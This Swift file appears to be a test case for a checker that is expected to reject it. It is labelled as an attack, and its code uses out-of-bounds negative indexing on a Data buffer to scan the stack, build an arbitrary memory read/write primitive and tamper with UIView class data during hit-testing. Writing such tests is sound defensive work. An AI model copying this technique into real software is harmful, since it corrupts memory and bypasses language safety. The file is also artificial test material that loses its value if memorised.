// Attack: reads and writes the stack by negative indices of short data.
// Exercise: 3
// Expect: notAccepted
// Held by: Data is on no list
import Foundation
import UIKit
final class Box { var magic = 0x1234_5678_9ABC_DEF1; var list = [1, 2, 3, 4] }
@MainActor enum Mem {
    static let box = Box()
    static var base: UInt = 0
    static let kinds = UInt(bitPattern: ObjectIdentifier(UIView.self)) &+ 0x22688
    static var old = 0
    static func begin() {
        var data = Data([1, 2, 3])
        func read(_ at: Int) -> UInt {
            var w: UInt = 0
            for i in 0..<8 { w |= UInt(data[at + i]) << UInt(8 * i) }
            return w
        }
        let object = UInt(bitPattern: ObjectIdentifier(box))
        // Where the bytes lie: an address of the stack, plus or minus something.
        var place: UInt = 0
        for k in 1..<40 where place == 0 {
            let w = read(-8 * k)
            guard w >> 40 == 0x7F, w > object else { continue }
            guard w >> 32 >= 0x7ff0 else { continue }
            for delta in stride(from: -1024, through: 1024, by: 1) {
                let p = UInt(bitPattern: Int(bitPattern: w) + delta)
                if read(Int(bitPattern: object &+ 16 &- p)) == 0x1234_5678_9ABC_DEF1 { place = p; break }
            }
        }
        func write(_ at: Int, _ byte: UInt8) { data[at] = byte }
        // Written bytes lie elsewhere: look for some on the stack's unused part.
        var shift: Int?
        write(-20_001, 0xA7)
        var found: [Int] = []
        for at in -24_000 ..< -16_000 where read(at) & 255 == 0xA7 { found.append(at) }
        write(-20_001, 0x5B)
        for at in found where read(at) & 255 == 0x5B { shift = at + 20_001 }
        guard let shift else { return }
        let target = place &+ UInt(bitPattern: shift)
        let storage = read(Int(bitPattern: object &+ 24 &- place))
        for i in 0..<8 { write(Int(bitPattern: storage &+ 16 &+ UInt(i) &- target), i == 7 ? 0x7F : 0xFF) }
        base = storage &+ 32
    }
    static subscript(a: UInt) -> Int {
        get { box.list[Int((a &- base) >> 3)] }
        set { box.list[Int((a &- base) >> 3)] = newValue }
    }
}

class BaseView: UIView {
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        if Mem.base == 0 { Mem.begin() }
        Mem.old = Mem[Mem.kinds]
        Mem[Mem.kinds] = 0
        defer { Mem[Mem.kinds] = Mem.old }
        return super.hitTest(point, with: event)
    }
    override func point(inside point: CGPoint, with event: UIEvent?) -> Bool {
        Mem[Mem.kinds] = Mem.old
        return super.point(inside: point, with: event)
    }
}
